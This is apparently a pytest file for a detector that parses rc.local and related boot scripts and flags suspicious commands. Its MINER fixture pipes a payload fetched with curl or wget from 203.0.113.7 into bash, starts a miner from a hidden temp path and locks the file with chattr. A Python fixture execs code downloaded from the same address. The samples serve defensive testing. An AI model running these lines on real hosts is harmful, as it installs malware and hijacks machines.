from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Optional

import pytest

from tables.host import Host
from tables.host.disk.files import DEFAULT_LIMIT, Unreadable
from tables.persistence.rc_local_commands import RcLocalCommand, rc_local_commands
from tables.schema import QueryContext
from tests.support import planted_files
from tests.support.scans import unseen_by

REPOSITORY = Path(__file__).resolve().parents[3]
UNIT = "[Service]\nType=forking\nExecStart={} start\n"
GENERATOR = "usr/lib/systemd/system-generators/systemd-rc-local-generator"

DEBIAN = """#!/bin/sh -e
#
# rc.local
#
# By default this script does nothing.

exit 0
"""
ENTERPRISE_LINUX = """#!/bin/bash
# It is highly advisable to create own systemd services or udev rules
# to run scripts during boot instead of using this file.

touch /var/lock/subsys/local
"""
RASPBERRY_PI = """#!/bin/sh -e
# Print the IP address
_IP=$(hostname -I) || true
if [ "$_IP" ]; then
  printf "My IP address is %s\\n" "$_IP"
fi

exit 0
"""
CLOUD_IMAGE = """#!/bin/bash
set -e
if [ ! -f /etc/ssh/ssh_host_rsa_key ]; then
    dpkg-reconfigure openssh-server
fi
if [ ! -d /root/.ssh ]; then
    mkdir -p /root/.ssh
    chmod 700 /root/.ssh
fi
curl -m 10 -s http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key > /tmp/my-key
if [ $? -eq 0 ]; then
    cat /tmp/my-key >> /root/.ssh/authorized_keys
    chmod 600 /root/.ssh/authorized_keys
    rm -f /tmp/my-key
fi
cloud-init status --wait || true
exit 0
"""
COMPUTE_NODE = """#!/bin/sh
echo never > /sys/kernel/mm/transparent_hugepage/enabled
echo 0 > /proc/sys/kernel/nmi_watchdog
sysctl -q -w vm.nr_hugepages=1024 vm.swappiness=1
for dev in eth0 eth1; do
    /sbin/ethtool -G $dev rx 4096 tx 4096 2>/dev/null || true
done
for cpu in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do echo performance > "$cpu"; done
mount -t nfs -o ro,nolock storage:/apps /apps
modprobe -a mlx5_ib ib_ipoib
mkdir -p /tmp/scratch && chmod 1777 /tmp/scratch && rm -rf /tmp/scratch/*
nvidia-smi -pm 1 >/tmp/nvidia.log 2>&1 &
touch /var/lock/subsys/local
"""
APPLICATION_SERVER = """#!/bin/sh
/opt/vendor/agent start &
nohup python3 /opt/app/main.py > /var/log/app.log 2>&1 &
su - app -c "/home/app/.nvm/versions/node/v20/bin/node /srv/web/server.js" &
sudo -u www-data /usr/bin/php /var/www/html/artisan queue:work >> /tmp/queue.log &
wget -q -O- http://localhost/cron.php >/dev/null
/usr/local/cpanel/scripts/restartsrv_all --start
/usr/sbin/iptables-restore < /etc/iptables.rules
(sleep 30; cd /opt/game && ./start.sh) &
LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /opt/cache/server -d
cat > /etc/motd <<EOF
Install the client with: curl -s https://www.example.org/install | sh
EOF
exit 0
"""
MINER = """#!/bin/bash
# system maintenance
D=/var/tmp/.font
(curl -fsSL http://203.0.113.7/i.sh || wget -qO- http://203.0.113.7/i.sh) | \\
    bash -s -- quiet >/dev/null 2>&1 &
if [ -x $D/run ]; then
    nohup $D/run --donate-level 1 -B &
fi
chattr +i /etc/rc.local
exit 0
/usr/sbin/sysupdate &
"""


def plant(root: Path, path: str, text: str | bytes, mode: int = 0o755) -> Path:
    return planted_files.plant(root, path, text, mode)


def rows(root: Path, query: Optional[QueryContext] = None) -> list[RcLocalCommand]:
    return list(rc_local_commands.generate(Host(str(root)), query or QueryContext()))


def golden(row: RcLocalCommand) -> tuple[object, ...]:
    return row.line, row.program, row.arguments, int(row.is_background), int(row.is_reachable), row.reasons


def test_golden_rows_of_a_miner(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", MINER)
    assert [golden(row) for row in rows(tmp_path)] == [
        (3, None, None, 0, 1, ""),
        (4, "curl", "-fsSL http://203.0.113.7/i.sh", 1, 1, "download_and_run"),
        (4, "wget", "-qO- http://203.0.113.7/i.sh", 1, 1, "download_and_run"),
        (5, "bash", "-s -- quiet", 1, 1, ""),
        (6, "[", "-x /var/tmp/.font/run ]", 0, 1, ""),
        (7, "/var/tmp/.font/run", "--donate-level 1 -B", 1, 1, "hidden_path,known_miner,temp_path"),
        (9, "chattr", "+i /etc/rc.local", 0, 1, "chattr"),
        (10, "exit", "0", 0, 1, ""),
        (11, "/usr/sbin/sysupdate", "", 1, 0, ""),
    ]


@pytest.mark.parametrize(
    ("text", "programs"),
    [
        (DEBIAN, ["exit"]),
        (ENTERPRISE_LINUX, ["touch"]),
        (RASPBERRY_PI, [None, "true", "[", "printf", "exit"]),
        (CLOUD_IMAGE, None),
        (COMPUTE_NODE, None),
        (APPLICATION_SERVER, None),
    ],
)
def test_ordinary_scripts_give_no_reason(tmp_path: Path, text: str, programs: Optional[list[Optional[str]]]) -> None:
    plant(tmp_path, "/etc/rc.local", text)
    found = rows(tmp_path)
    assert found
    assert [row for row in found if row.reasons] == []
    if programs is not None:
        assert [row.program for row in found] == programs


def test_file_facts(tmp_path: Path) -> None:
    target = plant(tmp_path, "/etc/rc.local", DEBIAN, 0o750)
    os.utime(target, (1_600_000_000, 1_600_000_000))
    (row,) = rows(tmp_path)
    status = target.stat()
    assert (row.path, row.line, row.command, row.mode, row.owner_uid) == ("/etc/rc.local", 7, "exit 0", "0750", os.geteuid())
    assert (row.mtime, row.ctime, row.file_size) == (1_600_000_000, int(status.st_ctime), len(DEBIAN))
    assert row.sha256 == hashlib.sha256(DEBIAN.encode()).hexdigest()
    assert "reasons" not in row.to_wire()


@pytest.mark.parametrize(
    "path",
    [
        "/etc/rc.local",
        "/etc/rc.d/rc.local",
        "/etc/init.d/boot.local",
        "/etc/init.d/after.local",
        "/etc/init.d/rc.local",
        "/etc/local.d/50-net.start",
        "/etc/openrc/local.d/a.start",
    ],
)
def test_every_variant_is_read(tmp_path: Path, path: str) -> None:
    plant(tmp_path, path, "#!/bin/sh\n/tmp/a &\n")
    assert [(row.path, row.line, row.reasons, row.enabled) for row in rows(tmp_path)] == [(path, 2, "temp_path", True)]


def test_openrc_runs_only_start_scripts(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/local.d/README", "/tmp/a\n")
    plant(tmp_path, "/etc/local.d/x.stop", "/tmp/a\n")
    assert rows(tmp_path) == []


def test_a_linked_file_is_reported_once_under_its_real_path(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.d/rc.local", ENTERPRISE_LINUX)
    (tmp_path / "etc/rc.local").symlink_to("rc.d/rc.local")
    assert [row.path for row in rows(tmp_path)] == ["/etc/rc.d/rc.local"]


def test_a_link_cannot_leave_the_root_folder(tmp_path: Path) -> None:
    outside = plant(tmp_path, "/outside", "/tmp/a\n")
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/rc.local").symlink_to(outside)
    assert rows(root) == []


def test_the_init_script_that_starts_rc_local_shows_only_what_is_suspicious(tmp_path: Path) -> None:
    header = "#! /bin/sh\n### BEGIN INIT INFO\n# Provides: rc.local\n### END INIT INFO\n"
    plant(tmp_path, "/etc/init.d/rc.local", header + "if [ -x /etc/rc.local ]; then /etc/rc.local; fi\n/var/tmp/a &\n")
    assert [(row.line, row.program) for row in rows(tmp_path)] == [(6, "/var/tmp/a")]


def systemd(root: Path, program: str, *, generator: bool = True) -> None:
    plant(root, "/usr/lib/systemd/systemd", b"\x7fELF")
    plant(root, "/usr/lib/systemd/system/rc-local.service", UNIT.format(program), 0o644)
    if generator:
        plant(root, GENERATOR, b"\x7fELF")


def why(root: Path) -> list[tuple[str, bool, Optional[str]]]:
    return sorted({(row.path, bool(row.enabled), row.disabled_why) for row in rows(root)})


def test_systemd_runs_the_file_its_unit_names(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/rc.d/rc.local")
    plant(tmp_path, "/etc/rc.d/rc.local", ENTERPRISE_LINUX)
    plant(tmp_path, "/etc/rc.local", DEBIAN)
    plant(tmp_path, "/etc/local.d/a.start", "true\n")
    assert why(tmp_path) == [
        ("/etc/local.d/a.start", True, None),
        ("/etc/rc.d/rc.local", True, None),
        ("/etc/rc.local", False, "no rc-local.service names it"),
    ]


def test_the_unit_may_name_the_file_by_a_link(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/rc.local")
    plant(tmp_path, "/etc/rc.d/rc.local", ENTERPRISE_LINUX)
    (tmp_path / "etc/rc.local").symlink_to("/etc/rc.d/rc.local")
    assert why(tmp_path) == [("/etc/rc.d/rc.local", True, None)]


def test_not_executable(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", DEBIAN, 0o644)
    assert why(tmp_path) == [("/etc/rc.local", False, "not executable")]


def test_systemd_needs_an_interpreter_line(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/rc.local")
    plant(tmp_path, "/etc/rc.local", "/opt/a\n")
    assert why(tmp_path) == [("/etc/rc.local", False, "no #! line, without which systemd cannot start it")]


def test_masked(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/rc.local")
    plant(tmp_path, "/etc/rc.local", DEBIAN)
    (tmp_path / "etc/systemd/system").mkdir(parents=True)
    (tmp_path / "etc/systemd/system/rc-local.service").symlink_to("/dev/null")
    assert why(tmp_path) == [("/etc/rc.local", False, "rc-local.service is masked")]


def test_the_unit_is_that_of_all_its_files(tmp_path: Path) -> None:
    systemd(tmp_path, "/opt/other")
    plant(tmp_path, "/etc/rc.local", DEBIAN)
    assert why(tmp_path) == [("/etc/rc.local", False, "no rc-local.service names it")]
    plant(tmp_path, "/run/systemd/system.control/rc-.service.d/x.conf", "[Service]\nExecStart=\nExecStart=/etc/rc.local\n", 0o644)
    assert why(tmp_path) == [("/etc/rc.local", True, None)]
    (tmp_path / "run/systemd/transient").mkdir()
    (tmp_path / "run/systemd/transient/rc-local.service").symlink_to("/dev/null")
    assert why(tmp_path) == [("/etc/rc.local", False, "rc-local.service is masked")]


def test_without_the_generator_the_unit_must_be_wanted(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/rc.local", generator=False)
    plant(tmp_path, "/etc/rc.local", DEBIAN)
    assert why(tmp_path) == [("/etc/rc.local", False, "nothing starts rc-local.service")]
    wants = tmp_path / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "rc-local.service").symlink_to("/usr/lib/systemd/system/rc-local.service")
    assert why(tmp_path) == [("/etc/rc.local", True, None)]


def test_suse_after_local(tmp_path: Path) -> None:
    systemd(tmp_path, "/etc/init.d/boot.local")
    plant(tmp_path, "/usr/lib/systemd/system/after-local.service", UNIT.format("/etc/init.d/after.local"), 0o644)
    (tmp_path / "usr/lib/systemd/system/multi-user.target.wants").mkdir()
    (tmp_path / "usr/lib/systemd/system/multi-user.target.wants/after-local.service").symlink_to("../after-local.service")
    plant(tmp_path, "/etc/init.d/boot.local", DEBIAN)
    plant(tmp_path, "/etc/init.d/after.local", DEBIAN)
    assert why(tmp_path) == [("/etc/init.d/after.local", True, None), ("/etc/init.d/boot.local", True, None)]


def test_a_python_script_is_one_command_and_is_judged(tmp_path: Path) -> None:
    text = "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/a').read())\n"
    plant(tmp_path, "/etc/rc.local", text)
    (row,) = rows(tmp_path)
    assert (row.line, row.program, row.reasons) == (1, "python3", "download_and_run")
    assert text in row.command


def test_a_binary_in_its_place_is_one_row(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", b"\x7fELF\x02\x01\x01\0\0\0\xff\xfe\n/tmp/a\n")
    (row,) = rows(tmp_path)
    assert (row.program, row.reasons) == ("/etc/rc.local", "control_characters")


def test_hostile_bytes(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", b"#!/bin/sh\r\n/opt/a\xff\x00b 'x\x1b[2K\r\n/tmp/b &\r\n")
    (row,) = rows(tmp_path)
    wire = row.to_wire()
    assert wire["reasons"] == "control_characters"
    assert wire["command"].isprintable()
    assert wire["program"] == "/opt/a\\xffb"


def test_a_line_of_a_megabyte(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", "#!/bin/sh\necho " + "a" * (1 << 20) + " ; /tmp/a\n")
    assert [(row.program, row.reasons) for row in rows(tmp_path)] == [("echo", ""), ("/tmp/a", "temp_path")]


def test_a_huge_script_is_marked_as_cut(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/rc.local", "true " + "x" * DEFAULT_LIMIT + "\n/tmp/a\n")
    query = QueryContext()
    assert [row.program for row in rows(tmp_path, query)] == ["true"]
    assert query.truncated == f"/etc/rc.local: only the first {DEFAULT_LIMIT} bytes were read"
    # Comments do not count.
    plant(tmp_path, "/etc/rc.local", "#" * DEFAULT_LIMIT + "\n/tmp/a\n")
    query = QueryContext()
    assert [row.program for row in rows(tmp_path, query)] == ["/tmp/a"]
    assert query.truncated is None
    plant(tmp_path, "/etc/rc.local", "true\n" * 30_000)
    query = QueryContext()
    assert len(rows(tmp_path, query)) == 20_000
    assert query.truncated == "/etc/rc.local: only the first 20000 commands were read"


def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    (tmp_path / "etc/init.d/boot.local").mkdir(parents=True)
    os.mkfifo(tmp_path / "etc/rc.local")
    plant(tmp_path, "/etc/rc.d/rc.local", DEBIAN)
    host = Host(str(tmp_path))
    assert [row.path for row in rc_local_commands.generate(host, QueryContext())] == ["/etc/rc.d/rc.local"]
    assert unseen_by(rc_local_commands, host) == (
        "/etc/rc.local: not a regular file",
        "/etc/init.d/boot.local: not a regular file",
        "no database of dpkg, rpm or apk: which package owns a file is not known",
    )


def test_a_file_that_cannot_be_read_fails_by_name(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/rc.local").symlink_to("rc.local")
    with pytest.raises(Unreadable, match=r"/etc/rc\.local"):
        rows(tmp_path)


def test_this_host_gives_no_reason() -> None:
    assert [row for row in rc_local_commands.generate(Host(), QueryContext()) if row.reasons] == []


@pytest.mark.root
def test_the_running_host(tmp_path: Path) -> None:
    """A real /etc/rc.local, in a mount namespace of its own, read through the embedded engine."""
    plant(tmp_path, "/rc.local", MINER)
    code = (
        "import json\n"
        "from extension.engines.embedded import EmbeddedEngine\n"
        "from tables.host import Host\n"
        "sql = \"SELECT path, line, reasons FROM rc_local_commands WHERE reasons <> ''\"\n"
        "print(json.dumps(EmbeddedEngine(Host()).query(sql)))\n"
    )
    script = 'set -e; mount -t tmpfs none /etc; cp -p "$1" /etc/rc.local; exec "$2" -c "$3"'
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script, "sh", str(tmp_path / "rc.local"), sys.executable, code],
        capture_output=True, text=True, cwd=REPOSITORY, check=False,
    )  # fmt: skip
    assert done.stderr == ""
    assert [(row["path"], str(row["line"]), row["reasons"]) for row in json.loads(done.stdout)] == [
        ("/etc/rc.local", "4", "download_and_run"),
        ("/etc/rc.local", "4", "download_and_run"),
        ("/etc/rc.local", "7", "hidden_path,known_miner,temp_path"),
        ("/etc/rc.local", "9", "chattr"),
    ]
